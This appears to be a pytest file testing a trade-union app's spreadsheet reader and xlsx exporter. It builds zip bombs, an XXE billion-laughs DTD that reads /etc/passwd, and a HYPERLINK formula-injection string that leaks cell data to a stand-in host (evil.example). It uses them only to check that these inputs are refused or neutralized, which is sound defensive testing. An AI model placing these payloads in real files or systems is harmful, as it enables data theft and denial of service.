"""Spreadsheet reading and writing, on real files built inside each test.

Workbooks are written with XlsxWriter (a runtime dependency) and altered with zipfile, so hostile files are
built byte by byte here instead of being stored as opaque fixtures.
"""

import base64
import datetime
import io
import random
import re
import struct
import zipfile
import zlib
import zoneinfo
from collections.abc import Callable

import pytest
import python_calamine
import xlsxwriter
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st

from gonghui.core import spreadsheets
from gonghui.core.spreadsheets import SpreadsheetError, neutralize, read_rows, write_xlsx

SHEET = "xl/worksheets/sheet1.xml"
SHARED_STRINGS = "xl/sharedStrings.xml"
XML_DECLARATION = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

# Built with xlwt 1.3.0 (not a dependency), zlib-compressed: sheet "名单" holding
#   [["姓名", "入会日期"], ["张三", date(2021, 3, 4) formatted yyyy-mm-dd], [42]]
XLS_ROSTER = zlib.decompress(
    base64.b64decode(
        "eNrtWE1oE0EU/ma7aX7IzyamQiPUWLBqbQ/ixUtdFbQnY6sVfxBqa4JIbSrBSz1oteaoCJ4UL4V60ENVBH/Qg948CBV7EAQh"
        "UTx5EhQ8tFnfe9mlaVVoQAuV+ZZ58+b9zLxkZt7M7pvpeGniQaqMRdiOBlScIBprZIpK0GtYIL3jMOvVASqOxopCMEAT2ejD"
        "s8hrP88hz3cZBu6bL4kCH6kcwxlkRvK59DJil8QwoDiGLqIKt0gSRbNElRB6QugqoffE8rnQHSK5IrSLbEvqKKbtTPs2dxUf"
        "NlpFFwX3+1h83otkC5rwilfxhWuqauvDzsKpgdMrTNFihjEJmtDuXD5X4HYMtxECRgmdw8Od2WwJSZrsSXx30sA3b1e/SGv5"
        "8soVSP5jodz/B3mAJnGx/LphAmNwjssmKSKMgMkaQ0X6Dh6YxTpK5JBC+pkjkT4TKteb2vc5t/YkSdL9wUyI87rkAWtBHojI"
        "/ggTzSImfFx2iUWBzN75+nbvYI/dL5Ixyf3VE2I9BwQHF9mDnKOiaRDKtu1CNwu9JL2uET4lNElLmOq2niaX2TMuNpdF20bj"
        "bBXM2Btq+I3EF7/0PmkpfrI3ET/VXT6XnHpnT6CVTqws+fMzjg7VoW7eYDy1vVq52eSD0OZfMkvAsNzYHfcYjGGO9xIhLrTa"
        "4n9HufbqN/ZK7LnH80ZI4kng6kND7A3xn7dnC0Ps7/JZbCTwiJuU2eYRgoaGhoaGhoaGhka9UO6tnO/nfG/3uXd/v/tdZ45K"
        "RX8m+W+xHyP0nKWXyt3IU13AaF3rZzV8yutLLdHH+17IOESjFzCEQYljqO71S+9uqvb3LNnR+ntbqN7xK/XE+Y/H/wnLctAn"
    )
)


def _xlsx(fill: Callable[[xlsxwriter.Workbook], None]) -> bytes:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    fill(workbook)
    workbook.close()
    return buffer.getvalue()


def _table_xlsx(rows: list[list]) -> bytes:
    def fill(workbook: xlsxwriter.Workbook) -> None:
        sheet = workbook.add_worksheet()
        for index, row in enumerate(rows):
            sheet.write_row(index, 0, row)

    return _xlsx(fill)


def _rezip(
    data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    """A copy of a zip with some members replaced or added, compressed like Office does (deflate)."""
    replace, add = replace or {}, add or {}
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, replace.get(name, source.read(name)))
        for name, content in add.items():
            target.writestr(name, content)
    return buffer.getvalue()


def _with_zeros_member(data: bytes, name: str, megabytes: int) -> bytes:
    """Replace a member with `megabytes` of zeros, streamed so the test never holds them in memory."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for other in source.namelist():
            if other != name:
                target.writestr(other, source.read(other))
        member = zipfile.ZipInfo(name)
        member.compress_type = zipfile.ZIP_DEFLATED
        with target.open(member, "w") as stream:
            chunk = bytes(1024 * 1024)
            for _ in range(megabytes):
                stream.write(chunk)
    return buffer.getvalue()


def _png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
    )


def _docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document>会议纪要</w:document>")
    return buffer.getvalue()


def _code(data: bytes, filename: str, **kwargs: int) -> str:
    with pytest.raises(SpreadsheetError) as caught:
        read_rows(data, filename, **kwargs)
    return caught.value.code


def _parser_must_not_run(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*args: object) -> None:
        raise AssertionError("the file reached the parser")

    monkeypatch.setattr(spreadsheets, "_parse_isolated", fail)


# --- reading .xlsx / .xls / .ods ---------------------------------------------------------------------------


def test_reads_xlsx_with_title_rows_and_merged_cells():
    def fill(workbook: xlsxwriter.Workbook) -> None:
        sheet = workbook.add_worksheet("会员")
        sheet.merge_range("B1:E1", "某某公司工会会员名册")
        sheet.write_row("B3", ["姓名", "性别", "入会日期", "在职"])
        sheet.write_row("B4", ["张三", "男"])
        sheet.write_datetime(
            "D4", datetime.date(2020, 1, 2), workbook.add_format({"num_format": "yyyy-mm-dd"})
        )
        sheet.write_boolean("E4", True)
        sheet.merge_range("B5:B6", "李四")
        sheet.write_number("C5", 3)

    rows = read_rows(_xlsx(fill), "名册.xlsx")

    assert rows == [
        # Rows start at A1 so indexes match what the user sees; a merged range has its value top-left only.
        [None, "某某公司工会会员名册", None, None, None],
        [None, None, None, None, None],
        [None, "姓名", "性别", "入会日期", "在职"],
        [None, "张三", "男", datetime.date(2020, 1, 2), True],
        [None, "李四", 3.0, None, None],  # B6 belongs to the merge but holds nothing, so the sheet ends here
    ]


def test_a_value_merged_over_several_rows_reaches_each_row_in_its_first_column():
    def fill(workbook: xlsxwriter.Workbook) -> None:
        sheet = workbook.add_worksheet()
        sheet.merge_range("A1:C1", "会员名册")
        sheet.write_row("A2", ["姓名", "部门", "班组"])
        sheet.write_column("A3", ["张三", "李四", "王五", "赵六"])
        sheet.merge_range("B3:C5", "一车间")  # two columns wide: the value belongs to the first
        sheet.write("B6", "二车间")
        sheet.merge_range("C6:C9", "夜班")  # runs past the last row with data

    rows = read_rows(_xlsx(fill), "名册.xlsx")

    assert rows == [
        ["会员名册", None, None],
        ["姓名", "部门", "班组"],
        ["张三", "一车间", None],
        ["李四", "一车间", None],
        ["王五", "一车间", None],
        ["赵六", "二车间", "夜班"],
    ]


def test_numbers_stay_numbers_so_the_caller_can_spot_an_id_typed_as_a_number():
    rows = read_rows(_table_xlsx([["身份证号"], [110101199001011234]]), "a.xlsx")

    assert isinstance(rows[1][0], float)
    assert int(rows[1][0]) != 110101199001011234  # Excel already dropped the last digits


def test_nul_characters_in_cells_are_kept_for_the_caller_to_report():
    assert read_rows(_table_xlsx([["张\x00三"]]), "a.xlsx") == [["张\x00三"]]
    assert read_rows("姓名\n张\x00三\n".encode(), "a.csv") == [["姓名"], ["张\x00三"]]


def test_reads_the_first_visible_sheet():
    def fill(workbook: xlsxwriter.Workbook) -> None:
        workbook.add_worksheet("字典").write("A1", "隐藏")
        workbook.worksheets()[0].hide()
        workbook.add_worksheet("名单").write("A1", "可见")
        workbook.worksheets()[1].activate()

    assert read_rows(_xlsx(fill), "a.xlsx") == [["可见"]]


def test_an_empty_sheet_has_no_rows():
    assert read_rows(_xlsx(lambda workbook: workbook.add_worksheet()), "a.xlsx") == []


def test_reads_legacy_xls():
    assert read_rows(XLS_ROSTER, "名单.xls") == [
        ["姓名", "入会日期"],
        ["张三", datetime.date(2021, 3, 4)],
        [42, None],
    ]


def test_reads_ods():
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>'
    )
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
        '<office:body><office:spreadsheet><table:table table:name="Sheet1">'
        '<table:table-row><table:table-cell office:value-type="string">'
        "<text:p>姓名</text:p></table:table-cell>"
        "</table:table-row><table:table-row>"
        '<table:table-cell office:value-type="float" office:value="30"><text:p>30</text:p></table:table-cell>'
        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)

    assert read_rows(buffer.getvalue(), "名单.ods") == [["姓名"], [30.0]]


def test_content_decides_the_format_not_the_name():
    assert read_rows(_table_xlsx([["张三"]]), "名单.csv") == [["张三"]]


# --- reading CSV ------------------------------------------------------------------------------------------

CSV_TEXT = '姓名,身份证号,备注\r\n张三,110101199001011234,\r\n李四,11010119900101123X,"北京市,朝阳区"\r\n'
CSV_ROWS = [
    ["姓名", "身份证号", "备注"],
    ["张三", "110101199001011234", None],
    ["李四", "11010119900101123X", "北京市,朝阳区"],
]


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(CSV_TEXT.encode("utf-8-sig"), id="utf-8 with BOM (Excel 'CSV UTF-8')"),
        pytest.param(CSV_TEXT.encode("utf-8"), id="utf-8"),
        pytest.param(CSV_TEXT.encode("gbk"), id="gbk (Excel 'CSV' on Chinese Windows)"),
        pytest.param(CSV_TEXT.encode("utf-16"), id="utf-16 with BOM"),
    ],
)
def test_reads_csv_in_the_encodings_chinese_offices_produce(data: bytes):
    assert read_rows(data, "名单.csv") == CSV_ROWS


@pytest.mark.parametrize("delimiter", ["\t", ";"])
def test_sniffs_the_delimiter(delimiter: str):
    text = "\n".join(
        delimiter.join(f'"{cell}"' if "," in cell else cell for cell in row)
        for row in [
            ["姓名", "身份证号", "地址"],
            ["张三", "110101199001011234", "北京市,朝阳区"],
            ["李四", "11010119900101123X", "上海市,浦东新区"],
        ]
    )

    rows = read_rows(text.encode(), "名单.txt")

    assert rows[2] == ["李四", "11010119900101123X", "上海市,浦东新区"]


def test_csv_rows_are_padded_and_blank_fields_are_none():
    rows = read_rows("某某工会会员名册\n\n姓名,性别\n张三,男,多余\n".encode(), "a.csv")

    assert rows == [
        ["某某工会会员名册", None, None],
        [None, None, None],
        ["姓名", "性别", None],
        ["张三", "男", "多余"],
    ]


def test_an_empty_csv_has_no_rows():
    assert read_rows(b"", "a.csv") == []


def test_csv_in_an_unknown_encoding_is_unsupported():
    # 0x80 and 0xFF start no character in UTF-8 or GB18030.
    assert _code(b"\x80" + "姓名".encode("gbk") + b"\xff", "a.csv") == "unsupported"


# --- limits and hostile files -------------------------------------------------------------------------------


def test_refuses_an_upload_over_the_size_limit(monkeypatch: pytest.MonkeyPatch):
    _parser_must_not_run(monkeypatch)
    with pytest.raises(SpreadsheetError) as caught:
        read_rows(b"x" * (spreadsheets.MAX_UPLOAD_BYTES + 1), "a.xlsx")
    assert caught.value.code == "too_large"
    assert "20 MB" in caught.value.message


def test_refuses_a_zip_bomb_from_its_declared_size_before_parsing(monkeypatch: pytest.MonkeyPatch):
    # 250 MB of zeros deflate to about 250 KB: over the 200 MB total and the 100:1 ratio.
    bomb = _with_zeros_member(_table_xlsx([["张三"]]), SHEET, megabytes=250)
    assert len(bomb) < 1024 * 1024
    _parser_must_not_run(monkeypatch)

    assert _code(bomb, "名单.xlsx") == "zip_bomb"


def test_refuses_a_member_compressed_more_than_the_ratio_allows(monkeypatch: pytest.MonkeyPatch):
    bomb = _with_zeros_member(_table_xlsx([["张三"]]), SHEET, megabytes=20)  # well under 200 MB in total
    _parser_must_not_run(monkeypatch)

    assert _code(bomb, "名单.xlsx") == "zip_bomb"


def test_refuses_a_zip_with_too_many_members(monkeypatch: pytest.MonkeyPatch):
    crowded = _rezip(_table_xlsx([["张三"]]), add={f"xl/media/{n}.txt": b"x" for n in range(1000)})
    _parser_must_not_run(monkeypatch)

    assert _code(crowded, "名单.xlsx") == "zip_bomb"


def test_refuses_nested_archives(monkeypatch: pytest.MonkeyPatch):
    inner = _table_xlsx([["嵌入"]])
    nested = _rezip(_table_xlsx([["张三"]]), add={"xl/embeddings/Microsoft_Excel_Worksheet.bin": inner})
    _parser_must_not_run(monkeypatch)

    assert _code(nested, "名单.xlsx") == "nested_archive"


BILLION_LAUGHS_DTD = (
    b'<!DOCTYPE sst [<!ENTITY a "lollollollollol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
)


def _entity_workbook() -> bytes:
    """sharedStrings.xml declaring a (small) billion-laughs chain and an external entity, and using both."""
    data = _table_xlsx([["hello"], ["world"]])
    shared = zipfile.ZipFile(io.BytesIO(data)).read(SHARED_STRINGS)
    hostile = shared.replace(XML_DECLARATION, XML_DECLARATION + BILLION_LAUGHS_DTD)
    hostile = hostile.replace(b"hello", b"&c;").replace(b"world", b"&xxe;")
    return _rezip(data, replace={SHARED_STRINGS: hostile})


def test_calamine_itself_never_expands_xml_entities():
    """The first line of defence: even without our DTD check, entities neither expand nor read files."""
    try:
        with python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(_entity_workbook())) as workbook:
            values = workbook.get_sheet_by_index(0).to_python()
    except python_calamine.CalamineError:
        return  # refusing the file is as safe as not expanding
    text = repr(values)
    assert "lollol" not in text
    assert "root:" not in text


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_refuses_xml_with_a_dtd(monkeypatch: pytest.MonkeyPatch, encoding: str):
    data = _entity_workbook()
    if encoding == "utf-16":
        shared = zipfile.ZipFile(io.BytesIO(data)).read(SHARED_STRINGS).decode()
        data = _rezip(data, replace={SHARED_STRINGS: shared.replace("UTF-8", "UTF-16").encode("utf-16")})
    _parser_must_not_run(monkeypatch)

    with pytest.raises(SpreadsheetError) as caught:
        read_rows(data, "名单.xlsx")
    assert caught.value.code == "unsafe_xml"
    assert "DOCTYPE" in caught.value.message


def test_a_scattered_cell_that_would_need_a_huge_grid_is_contained_in_the_parser_process():
    """calamine would try to allocate ~0.5 TB for A1..XFD1048576 and abort; only the child may die."""

    def fill(workbook: xlsxwriter.Workbook) -> None:
        sheet = workbook.add_worksheet()
        sheet.write("A1", "姓名")
        sheet.write("XFD1048576", "远处")

    assert _code(_xlsx(fill), "名单.xlsx") == "too_complex"


def test_refuses_too_many_rows():
    data = _table_xlsx([[f"会员{n}"] for n in range(11)])

    assert len(read_rows(data, "a.xlsx", max_rows=11)) == 11
    with pytest.raises(SpreadsheetError) as caught:
        read_rows(data, "a.xlsx", max_rows=10)
    assert caught.value.code == "too_many_rows"
    assert "10 行" in caught.value.message


def test_refuses_a_far_away_row_as_too_many_rows():
    def fill(workbook: xlsxwriter.Workbook) -> None:
        sheet = workbook.add_worksheet()
        sheet.write("A1", "姓名")
        sheet.write("A1048576", "最后一行")

    assert _code(_xlsx(fill), "a.xlsx") == "too_many_rows"


def test_refuses_too_many_csv_rows():
    assert _code(b"a\nb\nc\n", "a.csv", max_rows=2) == "too_many_rows"


def test_a_parser_that_runs_too_long_is_stopped(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(spreadsheets, "PARSER_TIMEOUT_SECONDS", 0.001)

    assert _code(_table_xlsx([["张三"]]), "a.xlsx") == "too_complex"


def test_a_file_named_xlsx_that_is_not_a_zip_is_reported_as_corrupt():
    with pytest.raises(SpreadsheetError) as caught:
        read_rows(b"\x89PNG\r\n\x1a\n not really", "名单.xlsx")

    assert caught.value.code == "corrupt"
    assert caught.value.message.startswith("文件已损坏或不是 Excel 文件")
    assert str(caught.value) == caught.value.message


@pytest.mark.parametrize(
    ("data", "filename", "code"),
    [
        pytest.param(_png(), "照片.xlsx", "corrupt", id="png named xlsx"),
        pytest.param(_png(), "照片.png", "unsupported", id="png"),
        pytest.param(
            random.Random(0).randbytes(4096), "data.csv", "unsupported", id="random bytes named csv"
        ),
        pytest.param(random.Random(1).randbytes(4096), "data.xls", "corrupt", id="random bytes named xls"),
        pytest.param(_docx(), "会议纪要.xlsx", "unsupported", id="docx named xlsx"),
        pytest.param(_table_xlsx([["张三"]])[:2000], "名单.xlsx", "corrupt", id="truncated xlsx"),
        pytest.param(spreadsheets._OLE_MAGIC + bytes(4096), "名单.xls", "corrupt", id="broken ole"),
    ],
)
def test_refuses_files_that_are_not_spreadsheets(data: bytes, filename: str, code: str):
    assert _code(data, filename) == code


def test_recognises_an_excel_file_with_an_open_password():
    # Excel stores an encrypted .xlsx as an OLE container with an "EncryptedPackage" stream.
    fake = spreadsheets._OLE_MAGIC + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(512)

    assert _code(fake, "名单.xlsx") == "encrypted"


def test_recognises_an_xls_with_an_open_password():
    # Turn the WRITEACCESS record (0x005C, 112 bytes) into a FILEPASS record (0x002F) of the same length.
    position = XLS_ROSTER.index(b"\x5c\x00\x70\x00")
    protected = XLS_ROSTER[:position] + b"\x2f\x00\x70\x00\x01\x00" + XLS_ROSTER[position + 6 :]

    assert _code(protected, "名单.xls") == "encrypted"


# --- writing ----------------------------------------------------------------------------------------------


def _member(data: bytes, name: str) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read(name).decode()


FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1", "-1", "@SUM(A1)", "\tx", "\rx"]
FULL_WIDTH_FORMULA_LIKE = ["＝1+1", "＋1", "－1", "＠x"]


@pytest.mark.parametrize("value", FORMULA_LIKE + FULL_WIDTH_FORMULA_LIKE + ["\0x"])
def test_neutralize_prefixes_formula_triggers(value: str):
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", ["张三", "1-2", "a=b", "", "'已转义", " =1"])
def test_neutralize_leaves_other_text_alone(value: str):
    assert neutralize(value) == value


@given(st.text())
def test_neutralized_text_never_starts_with_a_formula_trigger(value: str):
    result = neutralize(value)

    assert result in (value, "'" + value)
    assert not result.startswith(spreadsheets._FORMULA_TRIGGERS)


def test_export_neutralises_formulas():
    values = FORMULA_LIKE + FULL_WIDTH_FORMULA_LIKE
    data = write_xlsx(["=危险表头", "正常"], [[value, "正常"] for value in values])

    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in _member(data, name)
    rows = read_rows(data, "export.xlsx")
    assert rows[0] == ["'=危险表头", "正常"]
    assert [row[0] for row in rows[1:]] == ["'" + value for value in values]


def test_text_columns_keep_id_numbers_as_text():
    ids = ["110101199001011234", "0012345", 110101199001011234]
    data = write_xlsx(["身份证号", "数量"], [[value, 12] for value in ids], text_columns={0})
    sheet = _member(data, SHEET)

    assert re.findall(r'<c r="A[2-4]" s="\d+" t="(\w+)"', sheet) == ["inlineStr"] * 3
    assert '<c r="B2"><v>12</v></c>' in sheet
    # The whole column defaults to the text format, so IDs typed into new rows stay text as well.
    style = re.search(r'<col min="1" max="1" [^>]*style="(\d+)"', sheet).group(1)
    cell_formats = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", _member(data, "xl/styles.xml")).group(1)
    assert 'numFmtId="49"' in re.findall(r"<xf [^>]*>", cell_formats)[int(style)]  # 49 is "@"
    assert [row[0] for row in read_rows(data, "export.xlsx")[1:]] == [
        "110101199001011234",
        "0012345",
        "110101199001011234",
    ]


def test_dates_are_written_as_dates():
    aware = datetime.datetime(2020, 1, 2, 0, 30, tzinfo=datetime.UTC)
    with timezone.override(zoneinfo.ZoneInfo("Asia/Shanghai")):
        data = write_xlsx(["入会日期", "登记时间"], [[datetime.date(2020, 1, 2), aware]])

    assert re.search(r'<c r="A2" s="\d+"><v>43832</v></c>', _member(data, SHEET))
    assert read_rows(data, "export.xlsx")[1] == [
        datetime.date(2020, 1, 2),
        datetime.datetime(2020, 1, 2, 8, 30),
    ]


def test_header_is_bold_frozen_and_columns_fit_chinese_text():
    data = write_xlsx(["会员姓名", "abcd"], [["张三", "x"]])
    sheet = _member(data, SHEET)

    assert re.search(r'<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>', sheet)
    assert "<b/>" in _member(data, "xl/styles.xml")
    widths = [float(width) for width in re.findall(r'<col min="\d+" max="\d+" width="([\d.]+)"', sheet)]
    assert widths[0] > widths[1]  # four Chinese characters need about twice the room of four letters


def test_blank_values_and_other_types():
    data = write_xlsx(["a", "b", "c", "d", "e"], [[None, "", True, 2.5, zoneinfo.ZoneInfo("Asia/Shanghai")]])

    assert read_rows(data, "export.xlsx")[1] == [None, None, True, 2.5, "Asia/Shanghai"]


def test_a_template_has_only_the_header():
    assert read_rows(write_xlsx(["姓名", "身份证号"], [], text_columns={1}), "模板.xlsx") == [
        ["姓名", "身份证号"]
    ]


@settings(max_examples=10, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=40), min_size=1, max_size=20))
def test_round_trip_returns_the_same_strings(values: list[str]):
    data = write_xlsx(["姓名"], [[value] for value in values], text_columns={0})

    assert [row[0] for row in read_rows(data, "export.xlsx")[1:]] == [neutralize(value) for value in values]
